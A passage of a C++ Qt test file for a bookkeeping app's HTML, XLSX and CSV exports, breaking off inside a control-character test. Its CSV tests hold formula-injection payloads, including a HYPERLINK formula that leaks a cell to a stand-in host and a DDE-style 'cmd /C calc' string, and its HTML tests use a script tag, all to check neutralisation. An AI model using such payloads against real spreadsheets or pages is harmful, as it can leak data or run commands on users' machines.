#include "Exports.h"
#include "HiClass.h"
#include "RowTexts.h"

#include <QBuffer>
#include <QDir>
#include <QProcess>
#include <QTemporaryDir>
#include <QXmlStreamReader>
#include <QtTest>

#include <cerrno>
#include <csignal>
#include <sys/resource.h>
#include <sys/stat.h>

// The three exports without a window: pages from template text into a
// buffer, workbooks unpacked with unzip and read back cell by cell, CSV byte
// for byte, and the atomic replacement of an existing file.
class TestExports : public QObject {
    Q_OBJECT

private slots:
    void splitText_data();
    void splitText();
    void htmlFill_data();
    void htmlFill();
    void htmlTemplateErrors_data();
    void htmlTemplateErrors();
    void shippedTemplates_data();
    void shippedTemplates();
    void withExtension_data();
    void withExtension();
    void xlsxCells_data();
    void xlsxCells();
    void xlsxLayout();
    void shareCells_data();
    void shareCells();
    void csvBytes_data();
    void csvBytes();
    void csvFormulas_data();
    void csvFormulas();
    void controlCharsVisible_data();
    void controlCharsVisible();
    void saveReplacesWhole_data();
    void saveReplacesWhole();
    void saveFailsCleanly_data();
    void saveFailsCleanly();
    void saveFollowsUmask_data();
    void saveFollowsUmask();
    void saveOnFullDisk_data();
    void saveOnFullDisk();
    void progressAndCancel_data();
    void progressAndCancel();
};

namespace {

const QString In = QStringLiteral("收入");
const QString Out = QStringLiteral("支出");

// Ranking row: type, category, count, sum, share.
TRow rank(const QString &type, const QString &cate, const QString &count, const QString &sum,
          const QString &share)
{
    return {type, cate, count, sum, share};
}

// Record as entered: date, type word, category, amount, notes.
TRow rec(const QString &date, const QString &type, const QString &cate, const QString &amount,
         const QString &notes = QString())
{
    return {date, type, cate, amount, notes};
}

// The record list the store would hand out for these entered rows.
TRecordList records(const TRowList &rows)
{
    TRecordList list;
    qint64 id = 1;
    for (const TRow &r : rows) {
        const int date = list.AddDate(r.at(0));
        const int cate = list.AddCate(r.at(2));
        const TRecordList::TKind kind = r.at(1) == In    ? TRecordList::Income
                                        : r.at(1) == Out ? TRecordList::Expense
                                                         : TRecordList::Other;
        const QByteArray notes =
            r.at(4).isEmpty() ? QByteArray() : THi::Base64Encode(r.at(4)).toLatin1();
        list.Append(id++, Cents(r.at(3)), date, cate, kind, notes.constData(), int(notes.size()));
    }
    return list;
}

// One export: what it writes and the search it comes from.
struct TJob {
    TExportKind Kind = TExportKind::Cates;
    TSearchResult Result;
};

// Li's April: totals in 100.00, out 30.00 unless given.
TJob exportData(TExportKind kind, const TRowList &ranks, const TRecordList *recs,
                const QString &user = QStringLiteral("Li"), qint64 in = 10000, qint64 out = 3000)
{
    TJob job{kind, TSearchResult(user, QDate(2011, 4, 1), QDate(2011, 4, 30), {})};
    job.Result.InCents = in;
    job.Result.OutCents = out;
    for (const TRow &r : ranks) {
        if (kind == TExportKind::Cates)
            (r.at(RankType) == In ? job.Result.InCateRows : job.Result.OutCateRows) << RankRow(r);
    }
    if (recs)
        job.Result.RecRows = *recs;
    return job;
}

const QString Title = QStringLiteral("Li (2011-04-01 至 2011-04-30)");
const QString Foot =
    QStringLiteral("收入合计：100.00&nbsp;&nbsp;支出合计：30.00&nbsp;&nbsp;结余合计：70.00");

QByteArray unzip(const QString &zip, const QString &member)
{
    QProcess p;
    p.start(QStringLiteral("unzip"), {QStringLiteral("-p"), zip, member});
    if (!p.waitForFinished(30000) || p.exitCode() != 0)
        return QByteArray();
    return p.readAllStandardOutput();
}

// One cell as the sheet holds it: "A2|s|工资|General" (s: text, n: number).
QStringList sheetCells(const QString &xlsx)
{
    // Shared strings, when the writer used them.
    QStringList shared;
    {
        QXmlStreamReader x(unzip(xlsx, QStringLiteral("xl/sharedStrings.xml")));
        while (!x.atEnd())
            if (x.readNext() == QXmlStreamReader::StartElement && x.name() == u"si")
                shared.append(x.readElementText(QXmlStreamReader::IncludeChildElements));
    }
    // Style index -> number format code.
    QMap<int, QString> codes{{0, QStringLiteral("General")},
                             {2, QStringLiteral("0.00")},
                             {10, QStringLiteral("0.00%")},
                             {14, QStringLiteral("m/d/yyyy")}};
    QStringList xfFormats;
    {
        QXmlStreamReader x(unzip(xlsx, QStringLiteral("xl/styles.xml")));
        bool inXfs = false;
        while (!x.atEnd()) {
            const auto t = x.readNext();
            if (t == QXmlStreamReader::StartElement && x.name() == u"numFmt")
                codes[x.attributes().value(QStringLiteral("numFmtId")).toInt()] =
                    x.attributes().value(QStringLiteral("formatCode")).toString();
            if (t == QXmlStreamReader::StartElement && x.name() == u"cellXfs")
                inXfs = true;
            if (t == QXmlStreamReader::EndElement && x.name() == u"cellXfs")
                inXfs = false;
            if (inXfs && t == QXmlStreamReader::StartElement && x.name() == u"xf")
                xfFormats.append(
                    codes.value(x.attributes().value(QStringLiteral("numFmtId")).toInt()));
        }
    }
    QStringList cells;
    QXmlStreamReader x(unzip(xlsx, QStringLiteral("xl/worksheets/sheet1.xml")));
    while (!x.atEnd()) {
        if (x.readNext() != QXmlStreamReader::StartElement || x.name() != u"c")
            continue;
        const QString ref = x.attributes().value(QStringLiteral("r")).toString();
        const QString type = x.attributes().value(QStringLiteral("t")).toString();
        const QString format = xfFormats.value(x.attributes().value(QStringLiteral("s")).toInt());
        QString value;
        while (!(x.readNext() == QXmlStreamReader::EndElement && x.name() == u"c") && !x.atEnd()) {
            if (x.tokenType() == QXmlStreamReader::StartElement &&
                (x.name() == u"v" || x.name() == u"t"))
                value = x.readElementText();
        }
        if (type == u"s")
            value = shared.value(value.toInt());
        const QString kind = type == u"s" || type == u"inlineStr" || type == u"str"
                                 ? QStringLiteral("s")
                                 : QStringLiteral("n");
        cells.append(QStringList{ref, kind, value, format}.join(QLatin1Char('|')));
    }
    return cells;
}

QStringList header(TExportKind kind)
{
    QStringList cells;
    const QStringList names = Exports::ColumnNames(kind);
    for (int c = 0; c < names.size(); ++c)
        cells.append(QChar('A' + c) + QStringLiteral("1|s|") + names.at(c) +
                     QStringLiteral("|General"));
    return cells;
}

// The title and total rows from sheet row first on, in column B.
QStringList totals(int first, const char *in = "100.00", const char *out = "30.00",
                   const char *balance = "70.00")
{
    return {
        QStringLiteral("B%1|s|%2|General").arg(first).arg(Title),
        QStringLiteral("B%1|s|收入合计：%2|General").arg(first + 1).arg(QLatin1String(in)),
        QStringLiteral("B%1|s|支出合计：%2|General").arg(first + 2).arg(QLatin1String(out)),
        QStringLiteral("B%1|s|结余合计：%2|General").arg(first + 3).arg(QLatin1String(balance))};
}

QStringList leftovers(const QString &folder)
{
    return QDir(folder).entryList(QDir::Files | QDir::Hidden);
}

} // namespace

// ---------------------------------------------------------------------------
// Web page

void TestExports::splitText_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QStringList>("pieces");
    QTest::addRow("three pieces") << "A<!-- - -->B<!-- - -->C"
                                  << QStringList{QStringLiteral("A"), QStringLiteral("B"),
                                                 QStringLiteral("C")};
    QTest::addRow("blanks and line breaks around markers go")
        << " \r\n A \n<!-- - -->\r\n\tB b \n<!-- - -->\nC\n\n"
        << QStringList{QStringLiteral("A"), QStringLiteral("B b"), QStringLiteral("C")};
    QTest::addRow("markers back to back drop the empty piece")
        << "A<!-- - --><!-- - -->B<!-- - -->C"
        << QStringList{QStringLiteral("A"), QStringLiteral("B"), QStringLiteral("C")};
    QTest::addRow("marker at the start drops the first piece")
        << "  <!-- - -->A<!-- - -->B" << QStringList{QStringLiteral("A"), QStringLiteral("B")};
    QTest::addRow("blank piece is kept empty")
        << "A<!-- - -->  \n <!-- - -->C"
        << QStringList{QStringLiteral("A"), QStringLiteral(""), QStringLiteral("C")};
    QTest::addRow("trailing marker adds nothing")
        << "A<!-- - -->B<!-- - -->  \n"
        << QStringList{QStringLiteral("A"), QStringLiteral("B")};
    QTest::addRow("only the exact marker cuts")
        << "A<!-- -  -->B<!--  - -->C" << QStringList{QStringLiteral("A<!-- -  -->B<!--  - -->C")};
    QTest::addRow("pieces after the third are kept in the list")
        << "A<!-- - -->B<!-- - -->C<!-- - -->D"
        << QStringList{QStringLiteral("A"), QStringLiteral("B"), QStringLiteral("C"),
                       QStringLiteral("D")};
    QTest::addRow("blank text") << " \r\n\t" << QStringList{};
    QTest::addRow("full-width space is not trimmed")
        << QStringLiteral("\u3000A<!-- - -->B\u3000")
        << QStringList{QStringLiteral("\u3000A"), QStringLiteral("B\u3000")};
}

void TestExports::splitText()
{
    QFETCH(QString, text);
    QFETCH(QStringList, pieces);
    QCOMPARE(THtmlExport::SplitText(text, THtmlExport::Marker), pieces);
}

void TestExports::htmlFill_data()
{
    QTest::addColumn<bool>("cates");
    QTest::addColumn<QString>("templ");
    QTest::addColumn<TRowList>("rows"); // ranking rows or entered records
    QTest::addColumn<QString>("user");
    QTest::addColumn<QString>("expected");

    const TRowList ranking{rank(In, QStringLiteral("工资"), QStringLiteral("1"),
                                QStringLiteral("100.00"), QStringLiteral("100.00%")),
                           rank(Out, QStringLiteral("餐饮"), QStringLiteral("2"),
                                QStringLiteral("30.00"), QStringLiteral("100.00%"))};
    QTest::addRow("ranking: incomes first, the other amount a blank mark")
        << true << "H#top\r\n<!-- - -->\r\n  R#category #in | #out\r\n<!-- - -->\r\nF#bottom\r\n"
        << ranking << "Li"
        << QStringLiteral("H") + Title +
               QStringLiteral("R工资 100.00 | &nbsp;R餐饮 &nbsp; | 30.00F") + Foot;
    QTest::addRow("every ranking placeholder, in any letter case, every occurrence")
        << true
        << "#Top|#TOP<!-- - -->[#TYPE #Category #qty #In #OUT #ratio #type]<!-- - -->#BOTTOM"
        << ranking << "Li"
        << Title + QStringLiteral("|") + Title +
               QStringLiteral("[收入 工资 1 100.00 &nbsp; 100.00% 收入]"
                              "[支出 餐饮 2 &nbsp; 30.00 100.00% 支出]") +
               Foot;
    QTest::addRow("a placeholder inside a word is replaced")
        << true << "<!-- - -->x<!-- - -->#income|#ratios<!-- - -->y<!-- - -->z"
        << TRowList{rank(In, QStringLiteral("a"), QStringLiteral("1"), QStringLiteral("5.00"),
                         QStringLiteral("9.00%"))}
        << "Li"
        << "x5.00come|9.00%sy";
    QTest::addRow("inserted texts are escaped and never searched for placeholders")
        << true << "#top<!-- - -->(#category|#in)<!-- - -->!"
        << TRowList{rank(In, QStringLiteral("#in #ratio <b>&\"'"), QStringLiteral("1"),
                         QStringLiteral("1.00"), QStringLiteral("1.00%"))}
        << "<i>#bottom</i>"
        << "&lt;i&gt;#bottom&lt;/i&gt; (2011-04-01 至 2011-04-30)"
           "(#in #ratio &lt;b&gt;&amp;&quot;&#39;|1.00)!";
    QTest::addRow("ranking texts go in as they are, blank or not")
        << true << "<!-- - -->x<!-- - -->[#type|#category|#ratio]<!-- - -->y"
        << TRowList{rank(Out, QStringLiteral("  "), QStringLiteral("1"), QStringLiteral("1.00"),
                         QStringLiteral("100.00%"))}
        << "Li" << QStringLiteral("x[支出|  |100.00%]y");
    QTest::addRow("pieces after the third are ignored")
        << true << "H<!-- - -->R<!-- - -->F<!-- - -->#top X" << ranking << "Li"
        << "HRRF";

    const TRowList recs{rec(QStringLiteral("2011-04-01"), Out, QStringLiteral("餐饮"),
                            QStringLiteral("12.50"), QStringLiteral("   ")),
                        rec(QStringLiteral("2011-04-02"), In, QStringLiteral("工资"),
                            QStringLiteral("5000.00"), QStringLiteral(" a b ")),
                        rec(QStringLiteral("2011-04-02"), Out, QStringLiteral("x"),
                            QStringLiteral("1.00"), QStringLiteral("<script>alert(1)</script>"))};
    QTest::addRow("records: blank amounts and notes become a blank mark, others untrimmed")
        << false << "H<!-- - -->[#date|#category|#in|#out|#notes]<!-- - -->F"
        << TRowList{recs.mid(0, 2)} << "Li"
        << QStringLiteral("H[2011-04-01|餐饮|&nbsp;|12.50|&nbsp;]"
                          "[2011-04-02|工资|5000.00|&nbsp;| a b ]F");
    QTest::addRow("a note with markup shows as text")
        << false << "<table><!-- - --><td>#notes</td><!-- - --></table>" << TRowList{recs.at(2)}
        << "Li"
        << "<table><td>&lt;script&gt;alert(1)&lt;/script&gt;</td></table>";
    QTest::addRow("record placeholders in any case, next to each other")
        << false << "H<!-- - -->#DATE#Notes#iN#oUt<!-- - -->F" << TRowList{recs.at(2)} << "Li"
        << "H2011-04-02&lt;script&gt;alert(1)&lt;/script&gt;&nbsp;1.00F";
    QTest::addRow("no rows: head and foot only")
        << false << "H#top<!-- - -->R#date<!-- - -->F#bottom" << TRowList{} << "Li"
        << QStringLiteral("H") + Title + QStringLiteral("F") + Foot;
}

void TestExports::htmlFill()
{
    QFETCH(bool, cates);
    QFETCH(QString, templ);
    QFETCH(TRowList, rows);
    QFETCH(QString, user);
    QFETCH(QString, expected);
    const TExportKind kind = cates ? TExportKind::Cates : TExportKind::Trans;
    const TRecordList recs = records(cates ? TRowList{} : rows);
    const TJob data = exportData(kind, rows, &recs, user);

    QBuffer out;
    out.open(QIODevice::WriteOnly);
    THtmlExport(kind, templ, QStringLiteral("t.html")).Write(out, data.Result);
    // GB18030 bytes, no byte-order mark, nothing between the pieces.
    QCOMPARE(THi::FromBytes(out.data()), expected);
    QCOMPARE(out.data(), THi::ToBytes(expected));
}

void TestExports::htmlTemplateErrors_data()
{
    QTest::addColumn<QByteArray>("content"); // null: no file
    QTest::addColumn<QString>("error");      // empty: loads
    QTest::addRow("missing file") << QByteArray() << QStringLiteral("找不到网页模板文件：");
    QTest::addRow("empty file") << QByteArray("") << QStringLiteral("网页模板文件不完整：");
    QTest::addRow("two pieces") << QByteArray("H<!-- - -->R")
                                << QStringLiteral("网页模板文件不完整：");
    QTest::addRow("third piece dropped as empty")
        << QByteArray("H<!-- - -->R<!-- - --><!-- - -->") << QStringLiteral("网页模板文件不完整：");
    QTest::addRow("blank foot is a piece")
        << QByteArray("H<!-- - -->R<!-- - -->  <!-- - -->F") << QString();
}

void TestExports::htmlTemplateErrors()
{
    QFETCH(QByteArray, content);
    QFETCH(QString, error);
    QTemporaryDir dir;
    const QString file = dir.filePath(QStringLiteral("cates.html"));
    if (!content.isNull())
        THi::SaveFile(file, content);
    try {
        THtmlExport::FromFile(TExportKind::Cates, file);
        QVERIFY2(error.isEmpty(), "loaded a template that should fail");
    } catch (const TError &e) {
        QVERIFY2(!error.isEmpty(), qPrintable(e.text()));
        QVERIFY2(e.text().startsWith(error), qPrintable(e.text()));
        QVERIFY2(e.text().contains(file), qPrintable(e.text())); // names the file
    }
}

void TestExports::shippedTemplates_data()
{
    QTest::addColumn<bool>("cates");
    QTest::addRow("cates.html") << true;
    QTest::addRow("trans.html") << false;
}

void TestExports::shippedTemplates()
{
    QFETCH(bool, cates);
    const TExportKind kind = cates ? TExportKind::Cates : TExportKind::Trans;
    const QString file = THtmlExport::TemplateFile(kind);
    QVERIFY2(QFileInfo(file).isFile(), qPrintable(file));
    const QByteArray raw = THi::LoadFile(file);
    QVERIFY(raw.contains("<meta charset=\"gb18030\">"));
    // Stored in GB18030, not UTF-8: the title word's two bytes per character.
    QVERIFY(raw.contains(THi::ToBytes(QStringLiteral("合计"))) == false);
    QVERIFY(raw.contains(
        THi::ToBytes(cates ? QStringLiteral("收支项目排行") : QStringLiteral("收支记录明细"))));

    const TRowList rows =
        cates ? TRowList{rank(In, QStringLiteral("A&B"), QStringLiteral("1"),
                              QStringLiteral("100.00"), QStringLiteral("100.00%")),
                         rank(Out, QStringLiteral("餐饮"), QStringLiteral("1"),
                              QStringLiteral("30.00"), QStringLiteral("100.00%"))}
              : TRowList{rec(QStringLiteral("2011-04-01"), Out, QStringLiteral("餐饮"),
                             QStringLiteral("30.00"), QStringLiteral("<b>x</b>")),
                         rec(QStringLiteral("2011-04-02"), In, QStringLiteral("A&B"),
                             QStringLiteral("100.00"))};
    const TRecordList recs = records(cates ? TRowList{} : rows);
    QBuffer out;
    out.open(QIODevice::WriteOnly);
    THtmlExport::FromFile(kind, file).Write(out, exportData(kind, rows, &recs).Result);
    const QString page = THi::FromBytes(out.data());
    QVERIFY(page.startsWith(QLatin1String("<!DOCTYPE html>")));
    QVERIFY(page.endsWith(QLatin1String("</html>")));
    QVERIFY(!page.contains(THtmlExport::Marker));
    QCOMPARE(page.count(QLatin1String("<tr>")), 3); // header and two rows
    QCOMPARE(page.count(Title), 2);                 // window title and heading
    QVERIFY(page.contains(Foot));
    QVERIFY(page.contains(QLatin1String("A&amp;B")));
    QVERIFY(page.contains(QLatin1String("<td class=\"num\">100.00</td>")));
    QVERIFY(page.contains(QLatin1String("<td class=\"num\">&nbsp;</td>")));
    for (const char *ph : {"#top", "#bottom", "#type", "#category", "#qty", "#in<", "#out",
                           "#ratio", "#date", "#notes"})
        QVERIFY2(!page.contains(QLatin1String(ph), Qt::CaseInsensitive), ph);
}

void TestExports::withExtension_data()
{
    QTest::addColumn<QString>("chosen");
    QTest::addColumn<QString>("ext");
    QTest::addColumn<QString>("saved");
    QTest::addRow("no extension") << "/d/report"
                                  << ".html"
                                  << "/d/report.html";
    QTest::addRow("htm is another extension") << "/d/report.htm"
                                              << ".html"
                                              << "/d/report.htm.html";
    QTest::addRow("upper case kept") << "/d/report.HTML"
                                     << ".html"
                                     << "/d/report.HTML";
    QTest::addRow("dot in a folder does not count") << "/d.html/report"
                                                    << ".html"
                                                    << "/d.html/report.html";
    QTest::addRow("last dot counts") << "/d/a.html.txt"
                                     << ".html"
                                     << "/d/a.html.txt.html";
    QTest::addRow("xls gets xlsx") << "/d/book.xls"
                                   << ".xlsx"
                                   << "/d/book.xls.xlsx";
    QTest::addRow("XLSX kept") << "/d/book.XLSX"
                               << ".xlsx"
                               << "/d/book.XLSX";
    QTest::addRow("csv mixed case kept") << "/d/list.Csv"
                                         << ".csv"
                                         << "/d/list.Csv";
    QTest::addRow("trailing dot") << "/d/list."
                                  << ".csv"
                                  << "/d/list..csv";
}

void TestExports::withExtension()
{
    QFETCH(QString, chosen);
    QFETCH(QString, ext);
    QFETCH(QString, saved);
    QCOMPARE(Exports::WithExtension(chosen, ext), saved);
}

// ---------------------------------------------------------------------------
// Workbook

void TestExports::xlsxCells_data()
{
    QTest::addColumn<bool>("cates");
    QTest::addColumn<TRowList>("rows");
    QTest::addColumn<QStringList>("cells"); // every cell of the sheet, row by row

    QTest::addRow("ranking: two incomes, one expense")
        << true
        << TRowList{rank(In, QStringLiteral("工资"), QStringLiteral("1"), QStringLiteral("80.00"),
                         QStringLiteral("80.00%")),
                    rank(In, QStringLiteral("奖金"), QStringLiteral("2"), QStringLiteral("20.00"),
                         QStringLiteral("20.00%")),
                    rank(Out, QStringLiteral("餐饮"), QStringLiteral("3"), QStringLiteral("30.00"),
                         QStringLiteral("6.31%"))}
        << header(TExportKind::Cates) +
               QStringList{QStringLiteral("A2|s|收入|General"), QStringLiteral("B2|s|工资|General"),
                           QStringLiteral("C2|n|1|General"),    QStringLiteral("D2|n|80|0.00"),
                           QStringLiteral("F2|n|0.8|0.00%"),    QStringLiteral("A3|s|收入|General"),
                           QStringLiteral("B3|s|奖金|General"), QStringLiteral("C3|n|2|General"),
                           QStringLiteral("D3|n|20|0.00"),      QStringLiteral("F3|n|0.2|0.00%"),
                           QStringLiteral("A4|s|支出|General"), QStringLiteral("B4|s|餐饮|General"),
                           QStringLiteral("C4|n|3|General"),    QStringLiteral("E4|n|30|0.00"),
                           QStringLiteral("F4|n|0.0631|0.00%")} +
               totals(5);
    QTest::addRow("records: dates, empty amounts and notes, quotes verbatim")
        << false
        << TRowList{rec(QStringLiteral("2011-04-01"), Out, QStringLiteral("餐饮"),
                        QStringLiteral("12.50")),
                    rec(QStringLiteral("2011-04-02"), In, QStringLiteral("it's \"ok\""),
                        QStringLiteral("5000.00"), QStringLiteral("O'Brien, <b>&")),
                    rec(QStringLiteral("2011-04-02"), Out, QStringLiteral("x"),
                        QStringLiteral("0.01"), QStringLiteral("   ")),
                    rec(QStringLiteral("2011-04-02"), Out, QStringLiteral("y"),
                        QStringLiteral("0.02"),
                        QStringLiteral("a\tb\r\nc\x01"
                                       "d"))}
        << header(TExportKind::Trans) +
               QStringList{
                   QStringLiteral("A2|n|40634|yyyy-mm-dd"), QStringLiteral("B2|s|餐饮|General"),
                   QStringLiteral("D2|n|12.5|0.00"), QStringLiteral("A3|n|40635|yyyy-mm-dd"),
                   QStringLiteral("B3|s|it's \"ok\"|General"), QStringLiteral("C3|n|5000|0.00"),
                   QStringLiteral("E3|s|O'Brien, <b>&|General"),
                   QStringLiteral("A4|n|40635|yyyy-mm-dd"), QStringLiteral("B4|s|x|General"),
                   QStringLiteral("D4|n|0.01|0.00"), QStringLiteral("E4|s|   |General"),
                   QStringLiteral("A5|n|40635|yyyy-mm-dd"), QStringLiteral("B5|s|y|General"),
                   QStringLiteral("D5|n|0.02|0.00"),
                   // tab and line breaks kept, other control characters visible
                   QStringLiteral("E5|s|a\tb_x000D_\nc\u2401d|General")} +
               totals(6);
    QTest::addRow("no rows: header and totals")
        << false << TRowList{} << header(TExportKind::Trans) + totals(2);
}

void TestExports::xlsxCells()
{
    QFETCH(bool, cates);
    QFETCH(TRowList, rows);
    QFETCH(QStringList, cells);
    const TExportKind kind = cates ? TExportKind::Cates : TExportKind::Trans;
    const TRecordList recs = records(cates ? TRowList{} : rows);
    QTemporaryDir dir;
    const QString file = dir.filePath(QStringLiteral("out.xlsx"));
    TXlsxExport::Save(file, kind, exportData(kind, rows, &recs).Result);
    QCOMPARE(sheetCells(file), cells);
}

void TestExports::xlsxLayout()
{
    const TRowList rows{rec(QStringLiteral("2011-04-01"), Out, QStringLiteral("餐饮"),
                            QStringLiteral("12.50"),
                            QStringLiteral("一条很长很长很长很长很长很长的备注"))};
    const TRecordList recs = records(rows);
    QTemporaryDir dir;
    const QString file = dir.filePath(QStringLiteral("out.xlsx"));
    TXlsxExport::Save(file, TExportKind::Trans, exportData(TExportKind::Trans, rows, &recs).Result);

    const QString book = QString::fromUtf8(unzip(file, QStringLiteral("xl/workbook.xml")));
    QVERIFY(book.contains(QLatin1String("<sheet name=\"Sheet1\"")));
    QCOMPARE(book.count(QLatin1String("<sheet ")), 1);

    const QString sheet =
        QString::fromUtf8(unzip(file, QStringLiteral("xl/worksheets/sheet1.xml")));
    QVERIFY(sheet.contains(QLatin1String("ySplit=\"1\"")));
    QVERIFY(sheet.contains(QLatin1String("state=\"frozen\"")));
    // Column widths: the notes column is wider than the amounts, the title
    // row widens the 项目 column.
    QMap<int, double> widths;
    QXmlStreamReader x(sheet);
    while (!x.atEnd())
        if (x.readNext() == QXmlStreamReader::StartElement && x.name() == u"col")
            widths[x.attributes().value(QStringLiteral("min")).toInt()] =
                x.attributes().value(QStringLiteral("width")).toDouble();
    QCOMPARE(widths.size(), 5);
    QVERIFY(widths[5] > widths[3]);
    QVERIFY(widths[2] > widths[1]);
    QVERIFY(widths[1] >= 10); // a date fits

    // The header cells use a bold font.
    const QString styles = QString::fromUtf8(unzip(file, QStringLiteral("xl/styles.xml")));
    QVERIFY(styles.contains(QLatin1String("<b/>")));
    const int s = sheet.indexOf(QLatin1String("r=\"A1\""));
    QVERIFY(s > 0);
    QVERIFY(sheet.mid(s, 30).contains(QLatin1String("s=\"1\"")));
}

// ---------------------------------------------------------------------------
// CSV

void TestExports::shareCells_data()
{
    QTest::addColumn<qint64>("cents");
    QTest::addColumn<qint64>("typeCents");
    QTest::addColumn<QString>("text");
    QTest::addColumn<double>("number");
    QTest::addRow("two decimals") << qint64(631) << qint64(10000) << "6.31%" << 0.0631;
    QTest::addRow("a third") << qint64(1) << qint64(3) << "33.33%" << 0.3333;
    QTest::addRow("an exact half") << qint64(1) << qint64(32) << "3.13%" << 0.0313;
    QTest::addRow("zero total") << qint64(5) << qint64(0) << "0.00%" << 0.0;
    QTest::addRow("a refund's tiny share") << qint64(-1) << qint64(100000) << "-0.00%" << 0.0;
    QTest::addRow("a refund's huge share")
        << qint64(999999999999) << qint64(-1) << "-99999999999900.00%" << -999999999999.0;
}

void TestExports::shareCells()
{
    // A share cell's number is the fraction its text shows, never more digits.
    QFETCH(qint64, cents);
    QFETCH(qint64, typeCents);
    QFETCH(QString, text);
    QFETCH(double, number);
    TSearchResult result(QStringLiteral("Li"), QDate(2011, 4, 1), QDate(2011, 4, 30), {});
    result.OutCateRows << TRankRow{Out, QStringLiteral("a"), 1, cents, typeCents};
    QList<Exports::TCell> shares;
    Exports::ForEachRow(
        TExportKind::Cates, result, [&](const Exports::TCells &cells) { shares << cells.at(5); },
        Exports::TTotals::Without);
    QCOMPARE(shares.size(), 1);
    QCOMPARE(shares.first().type, Exports::TCell::Share);
    QCOMPARE(shares.first().text, text);
    QCOMPARE(shares.first().number, number);
}

void TestExports::csvBytes_data()
{
    QTest::addColumn<bool>("cates");
    QTest::addColumn<TRowList>("rows");
    QTest::addColumn<QByteArray>("bytes");
    const QByteArray bom("\xEF\xBB\xBF");
    // The table only: no title or total lines among the rows.
    QTest::addRow("ranking") << true
                             << TRowList{rank(In, QStringLiteral("工资"), QStringLiteral("1"),
                                              QStringLiteral("100.00"), QStringLiteral("100.00%")),
                                         rank(Out, QStringLiteral("a,b"), QStringLiteral("12"),
                                              QStringLiteral("1234567.50"),
                                              QStringLiteral("2.50%"))}
                             << bom + QStringLiteral("类别,项目,数量,收入,支出,比例\r\n"
                                                     "收入,工资,1,100.00,,100.00%\r\n"
                                                     "支出,\"a,b\",12,,1234567.50,2.50%\r\n")
                                          .toUtf8();
    QTest::addRow("records with quotes and line breaks")
        << false
        << TRowList{rec(QStringLiteral("2011-04-01"), Out, QStringLiteral("say \"hi\""),
                        QStringLiteral("12.50"), QStringLiteral("line1\r\nline2")),
                    rec(QStringLiteral("2011-04-02"), In, QStringLiteral("O'Brien"),
                        QStringLiteral("5000.00"), QStringLiteral("  "))}
        << bom + QStringLiteral("日期,项目,收入,支出,备注\r\n"
                                "2011-04-01,\"say \"\"hi\"\"\",,12.50,\"line1\r\nline2\"\r\n"
                                "2011-04-02,O'Brien,5000.00,,  \r\n")
                     .toUtf8();
    QTest::addRow("no rows: the header alone")
        << false << TRowList{} << bom + QStringLiteral("日期,项目,收入,支出,备注\r\n").toUtf8();
}

void TestExports::csvBytes()
{
    QFETCH(bool, cates);
    QFETCH(TRowList, rows);
    QFETCH(QByteArray, bytes);
    const TExportKind kind = cates ? TExportKind::Cates : TExportKind::Trans;
    const TRecordList recs = records(cates ? TRowList{} : rows);
    QBuffer out;
    out.open(QIODevice::WriteOnly);
    TCsvExport::Write(out, kind, exportData(kind, rows, &recs).Result);
    QCOMPARE(out.data(), bytes);
}

void TestExports::csvFormulas_data()
{
    QTest::addColumn<QString>("cate");
    QTest::addColumn<QString>("amount"); // as entered; negative only from old data
    QTest::addColumn<QString>("notes");
    QTest::addColumn<QString>("line"); // the record's line as written
    QTest::addRow("sum formula") << "=1+2"
                                 << "1.00"
                                 << ""
                                 << "2011-04-01,'=1+2,,1.00,";
    QTest::addRow("link that leaks cells")
        << "x"
        << "1.00"
        << "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"看\")"
        << "2011-04-01,x,,1.00,\"'=HYPERLINK(\"\"http://example.invalid/"
           "?leak=\"\"&A1,\"\"看\"\")\"";
    QTest::addRow("plus") << "+1"
                          << "1.00"
                          << "@SUM(A1)"
                          << "2011-04-01,'+1,,1.00,'@SUM(A1)";
    QTest::addRow("minus") << "-cmd"
                           << "1.00"
                           << ""
                           << "2011-04-01,'-cmd,,1.00,";
    QTest::addRow("tab and carriage return") << "\tx"
                                             << "1.00"
                                             << "\rx"
                                             << "2011-04-01,'\tx,,1.00,\"'\rx\"";
    QTest::addRow("inside the text is harmless") << "a=b"
                                                 << "1.00"
                                                 << "1+1"
                                                 << "2011-04-01,a=b,,1.00,1+1";
    // An amount is a number of ours, never a text: a minus sign on one is a
    // sign, and an apostrophe would turn the number into text.
    QTest::addRow("negative amount stays a number") << "退款"
                                                    << "-12.50"
                                                    << ""
                                                    << "2011-04-01,退款,,-12.50,";
}

void TestExports::csvFormulas()
{
    QFETCH(QString, cate);
    QFETCH(QString, amount);
    QFETCH(QString, notes);
    QFETCH(QString, line);
    const TRowList rows{rec(QStringLiteral("2011-04-01"), Out, cate, amount, notes)};
    const TRecordList recs = records(rows);
    QBuffer out;
    out.open(QIODevice::WriteOnly);
    // A user name that is a formula: the title no longer goes into the table.
    TCsvExport::Write(
        out, TExportKind::Trans,
        exportData(TExportKind::Trans, rows, &recs, QStringLiteral("=cmd|' /C calc'!A0")).Result);
    const QByteArray expected = "\xEF\xBB\xBF" +
                                QStringLiteral("日期,项目,收入,支出,备注\r\n").toUtf8() +
                                line.toUtf8() + "\r\n";
    QCOMPARE(out.data(), expected);
}

void TestExports::controlCharsVisible_data()
{
    QTest::addColumn<QString>("format");
    QTest::addRow("web page") << "html";
    QTest::addRow("workbook") << "xlsx";
    QTest::addRow("csv") << "csv";
}

static void save(const QString &format, const QString &file, const TJob &data,
                 const TProgress &progress = {});
static QString exported(const QString &format, const QString &file);

void TestExports::controlCharsVisible()
{
    QFETCH(QString, format);
    const QString nul(QChar(0));
    const TRowList rows{rec(QStringLiteral("2011-04-01"), Out,
                            QStringLiteral("a") + nul + QStringLiteral("b"), QStringLiteral("1.00"),
                            QStringLiteral("x\x01y\x1Fz\x7F\u0085!")),
                        rec(QStringLiteral("2011-04-02"), In, QStringLiteral("工资"),
                            QStringLiteral("2.00"), QStringLiteral("after"))};
    const TRecordList recs = records(rows);
    QTemporaryDir dir;
    const QString file = dir.filePath(QStringLiteral("out.") + format);
    save(format, file, exportData(TExportKind::Trans, rows, &recs));
    const QString text = exported(format, file);
    // Nothing cut: the row after the odd texts is there, and the odd
    // characters show as their symbols.
    QVERIFY2(text.contains(QStringLiteral("a\u2400b")), qPrintable(text));
    QVERIFY2(text.contains(QStringLiteral("x\u2401y\u241Fz\u2421\uFFFD!")), qPrintable(text));
    QVERIFY(text.contains(QStringLiteral("工资")));
    QVERIFY(text.contains(QStringLiteral("after")));
    for (QChar c : text)
